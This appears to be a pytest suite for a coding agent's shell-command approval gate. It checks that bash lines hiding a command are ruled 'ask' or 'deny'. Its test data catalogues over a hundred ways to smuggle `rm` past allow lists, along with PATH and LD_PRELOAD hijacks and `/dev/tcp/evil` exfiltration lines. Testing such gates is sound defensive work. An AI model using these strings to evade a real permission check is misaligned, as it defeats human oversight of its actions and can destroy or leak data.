"""Line 2: whatever could start a program in a command line, and isn't understood, asks."""

import pytest

from tests.approvals.ruling import bash
from vega_tui.approvals.shell import segments
from vega_tui.core.words import Mode

ALLOW = ["bash(cat *)", "bash(echo *)", "bash(sort *)", "bash(ls *)", "bash(printf *)", "bash(read *)", "bash(test *)"]

# In each, bash runs `rm y`.
HIDDEN = [
    "cat <<EOF\n`rm y`\nEOF",
    "cat <<EOF\n$(rm y)\nEOF\n",
    "cat <<-EOF\n\t`rm y`\n\tEOF",
    "cat <<EOF\n${x:-`rm y`}\nEOF",
    "cat <<EOF\n\\\\`rm y`\nEOF",
    "cat <<EOF | sort\n$(rm y)\nEOF",
    "cat <<A <<B\n`rm y`\nA\nx\nB",
    "cat <<'A' <<B\nx\nA\n`rm y`\nB",
    "echo $(cat <<EOF\n`rm y`\nEOF\n)",
    "cat <<EOF\n$(cat <<X\n`rm y`\nX\n)\nEOF",
    'cat <<EOF\n"$(rm y)"\nEOF',
    "cat <<EOF\n'$(rm y)'\nEOF",
    "cat <<EOF\nx\nEOF\nrm y",
    "cat <<'EOF'\nx\nEOF\nrm y\ncat <<'EOF'\nx\nEOF",
    "cat <<'EOF'\n\tEOF\nEOF\nrm y",
    "cat <<-'EOF'\nx\n\tEOF\nrm y\nEOF",
    "v=(a)ls rm y",  # the word goes on behind the bracket, so that `rm` is the program
    'v=(a)"b"ls rm y',
    "v=(a)\\\nls rm y",
    "v=()ls\trm y",
    "v+=(a)cat rm y",
    "w=1 v=(a)ls rm y",
    "sort <<< ${HOME##$(rm y)}",
    "sort <<< `rm y`",
    'sort <<< "$(rm y)"',
    "sort <<< <(rm y)",
    "[[ a =~ `rm y` ]]",
    "[[ a =~ $(rm y) ]]",
    "[[ a =~ (x|`rm y`) ]]",
    "[[ a =~ [`rm y`] ]]",
    "[[ a == `rm y` ]]",
    "[[ a == @($(rm y)|b) ]]",
    "[[ -n `rm y` ]]",
    "case `rm y` in x) ls;; esac",
    "case x in `rm y`) ls;; esac",
    "case x in a|$(rm y)|b) ls;; esac",
    "echo ${HOME+`rm y`}",
    "echo ${HOME##$(rm y)}",
    "echo ${HOME%%`rm y`}",
    "echo ${HOME/a/$(rm y)}",
    "echo ${HOME//`rm y`/b}",
    "echo ${HOME:$(rm y)}",
    "echo ${HOME:0:`rm y`}",
    "echo ${HOME^`rm y`}",
    "echo ${u:=`rm y`}",
    "echo ${u:-${v:-`rm y`}}",
    'echo ${u:-"$(rm y)"}',
    'echo "${u:-$(rm y)}"',
    "echo ${u:-<(rm y)}",
    "echo ${a[$(rm y)]}",
    "echo `echo \\`rm y\\``",
    "echo `echo \\`echo \\\\\\`rm y\\\\\\`\\``",
    'echo "`echo \\"\\`rm y\\`\\"`"',
    "echo $((a[$(rm y)]))",
    "echo $((`rm y`))",
    "echo $[$(rm y)]",
    "echo $((1)) $((rm y); ls)",
    "cat <<EOF\n$((a[$(rm y)]))\nEOF",
    "(( a[$(rm y)] ))",
    "let 'a[$(rm y)]'",
    "declare -i x='a[$(rm y)]'",
    "a[$(rm y)]=1",
    "a=([$(rm y)]=1)",
    "a=(x `rm y`)",
    "printf -v 'a[$(rm y)]' x",
    "read 'a[$(rm y)]' <<< x",
    "test -v 'a[$(rm y)]'",
    "[ -v 'a[$(rm y)]' ]",
    "[[ 'a[$(rm y)]' -eq 1 ]]",
    "x='-v a[$(rm y)]'; [ $x ]",
    'x=-v; y=\'a[$(rm y)]\'; [ "$x" "$y" ]',
    "x='$(rm y)'; echo ${x@P}",
    "x='a[$(rm y)]'; echo ${!x}",
    "x='a[$(rm y)]'; echo $((x))",
    "echo >& '$(rm y)'",
    "mapfile -C 'rm y' -c 1 <<< x",
    "trap 'rm y' EXIT",
    "ls() { rm y; }; ls",
    "function ls { rm y; }; ls",
    "shopt -s expand_aliases\nalias ls='rm y'\nls",
    "coproc rm y",
    "echo x > >(rm y)",
    "echo {a,$(rm y)}",
    "echo \\\\`rm y`",
    "echo 'a'`rm y`'b'",
    'echo "a"$(rm y)"b"',
    "echo $'\\''`rm y`",
    "echo $'a\\'; rm y",
    'echo $"`rm y`"',
    "{rm,y}",
    "r\\\nm y",
    "echo $\\\n(rm y)",
    'echo "$\\\n(rm y)"',
    "ls;#x\nrm y",
    "ls #'\nrm y #'",
    "echo a#b; rm y",
    "ls # \\\nrm y",
    "time -p rm y",
    "! rm y",
    "x=1 rm y",
    "x= rm y",
    "if rm y; then ls; fi",
    "for i in `rm y`; do ls; done",
    "ls & rm y",
    "ls |& rm y",
    "ls\r\nrm y",
    "eval $'r\\x6d y'",
    "$'\\x72m' y",
    "$'\\162m' y",
    "bash -c +x 'rm y'",
    "bash -c -o pipefail 'rm y'",
    "bash -co pipefail 'rm y'",
    "bash --norc -c 'rm y'",
    "bash --rcfile y -ic ls",
    "bash -O extglob -c 'rm y'",
    "sh -c '[[ a && rm y ]]'",
    "dash -c \"echo $'\\\\'; rm y #'\"",
    "fish -c 'echo (rm y)'",
    "zsh -c 'echo *(e:rm:)'",
]

# These decide what other commands do, or reach outside, without naming a program.
STEERING = [
    "PATH=/tmp/x; ls",
    "for PATH in /tmp/x; do ls; done",
    "read PATH <<< /tmp/x; ls",
    "printf -v PATH /tmp/x; ls",
    ": ${PATH:=/tmp/x}; ls",
    "echo ${LD_PRELOAD:=x.so}; ls",
    "LD_PRELOAD=./x.so; ls",
    "BASH_ENV=x; ls",
    "ENV=x; ls",
    "PS4='$(rm y)'; ls",
    "PROMPT_COMMAND=x; ls",
    "IFS=x; ls",
    "GIT_DIR=x; ls",
    "http_proxy=evil; ls",
    "LC_ALL=zh_CN.GBK; ls",
    "LANG=$x ls",
    "for LANG in zh_CN.GBK; do ls; done",
    "read -r -p x PATH; ls",
    "read -ra PATH; ls",
    "npm_config_script_shell=x; ls",
    "set -k; ls PATH=/tmp/x",
    "hash -p /tmp/x ls; ls",
    "enable -n echo; echo x",
    "exec 3<>/dev/tcp/evil/80; echo x >&3",
    "echo x > /dev/tcp/evil/80",
    "exec {PATH}>f; ls",
    "l[s] x",
    "echo \x01x",
    "ls\u00a0x",
    "echo 'x\ud800'",
]


@pytest.mark.parametrize("line", [*HIDDEN, *STEERING])
def test_code_that_hides_in_a_line_asks_however_it_is_written(line: str) -> None:
    for text in (line, f"ls\n{line}"):  # what runs nothing that can be named asks anyhow; beside `ls` it must, too
        assert bash(text, allow=ALLOW) == "ask"
        assert bash(text, mode=Mode.AUTO) == "ask"
        assert bash(text, mode=Mode.AUTO, allow=ALLOW) == "ask"


@pytest.mark.parametrize("line", HIDDEN)
def test_a_deny_rule_holds_over_code_that_hides_even_in_yolo_and_where_bash_is_allowed(line: str) -> None:
    for text in (line, f"ls\n{line}"):
        assert bash(text, mode=Mode.YOLO, deny=["bash(rm *)"]) != "allow"
        assert bash(text, allow=["bash"], deny=["bash(rm *)"]) != "allow"


@pytest.mark.parametrize(
    "line",
    [
        "cat <<EOF\n`rm y`\nEOF",
        "cat <<-EOF\n\t$(rm y)\n\tEOF",
        "sort <<< ${HOME##$(rm y)}",
        "[[ a == `rm y` ]]",
        "echo ${HOME+`rm y`}",
        "echo `echo \\`rm y\\``",
        "$'\\x72m' y",
        "bash <<'EOF'\nrm y\nEOF",
        "bash <<< x; rm y",
        "ls | while read x; do rm $x; done",
        "case x in $(rm y)) ls;; esac",
        "coproc rm y",
        "a=(x `rm y`)",
        "rm() { ls; }; rm y",
    ],
)
def test_a_deny_rule_finds_its_program_within_texts_that_bash_expands(line: str) -> None:
    assert bash(line, mode=Mode.YOLO, deny=["bash(rm *)"]) == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "cat <<'EOF'\n$(rm y) `rm y` ${x@P}\nEOF",
        'cat <<"EOF"\n`rm y`\nEOF\n',
        "cat <<\\EOF\n`rm y`\nEOF\n",
        "cat <<-'EOF'\n\t$(rm y)\n\tEOF\n",
        "cat <<EOF\n\\$(rm y) \\`rm y\\` 'x' \"y\" $x ${x} ${x:-y}\nEOF",
        "cat <<EOF\nit's (fine); rm y & # <(rm y)\nEOF",
        "echo '`rm y`' \\$\\(rm y\\) \\`rm\\`",
        'echo "it\'s \\$(rm y) \\`rm y\\`"',
        "cat <<A <<B\nx\nA\ny\nB\nls",
        "[[ a =~ ^(a|b)+$ ]] && ls",
        "[[ $x == *.py ]] && ls",
        "case $x in a|b) ls;; *) echo x;; esac",
        "echo ${x:-y} ${x%.*} ${x##*/} ${x/a/b} ${x^^} ${#x} ${x:0:3} ${a[@]} ${#a[@]}",
        'for f in a b; do echo "$f"; done',
        "ls # `rm y` $(rm y)",
        'x=$(ls); echo "$x"',
        "cat <<EOF\n$(ls)\nEOF",
        'while read -r line; do echo "$line"; done < a',
    ],
)
def test_what_bash_does_not_run_does_not_ask(line: str) -> None:
    assert bash(line, allow=ALLOW) == "allow"


def test_a_rule_for_all_of_bash_asks_where_it_cannot_see_whether_a_deny_rule_is_met() -> None:
    for line in ("echo $((x))", "$x y", "let 'a[$(rm y)]'", "'open"):
        assert bash(line, allow=["bash"], deny=["bash(rm *)"]) == "ask"
        assert bash(line, allow=["bash"], deny=["read(.env)"]) == "ask"
        assert bash(line, allow=["bash"]) == "allow"


@pytest.mark.parametrize("piece", ["`a` ", "a;", "$(a)", "a|", "(a);", "eval a;", "bash -c a;"])
def test_a_line_of_more_commands_than_anybody_reads_is_refused_with_its_first(piece: str) -> None:
    parsed = segments(piece * 900 + "a")
    assert parsed.problem == "more than 100 commands"
    assert len(parsed.commands) == 100


def test_deep_and_long_lines_are_refused_and_never_overflow() -> None:
    for piece, end in (("$(", ")"), ("(", ")"), ("${x:-", "}"), ("{ ", "; }"), ('"$(', ')"'), ("if ", ""), ("`", "`")):
        text = piece * 1500 + "ls" + end * 1500
        parsed = segments(text[:10_000])
        assert parsed.problem or all(command.opaque for command in parsed.commands)
    for text in (
        "{" * 4000 + "," * 4000,
        "\\" * 9999,
        "<<" * 4000,
        "()*" * 3000,
        "[[ a =~ " + "(a)*" * 2000,
        "$((" * 3000,
    ):
        assert segments(text).problem or segments(text).commands


@pytest.mark.parametrize(
    "line",
    [
        "x=push; git $x",
        "git $(echo push)",
        "git {push,log}",
        "git pus?",
        'f() { git "$@"; }; f push',
        "echo push | xargs git",
        "/usr/bin/git $x",
        "timeout 5 git $x",
    ],
)
def test_a_word_that_only_the_run_knows_may_be_the_one_that_is_denied(line: str) -> None:
    assert bash(line, mode=Mode.YOLO, deny=["bash(git push *)"]) == "ask"
    assert bash(line, allow=["bash"], deny=["bash(git push *)"]) == "ask"
    assert bash(line, mode=Mode.YOLO, deny=["bash(npm publish)"]) != "deny"
    assert bash(line, mode=Mode.YOLO) == "allow"


def test_an_unknown_word_behind_another_verb_asks_nothing() -> None:
    assert bash("git log $x; cat $y", mode=Mode.YOLO, deny=["bash(git push *)"]) == "allow"
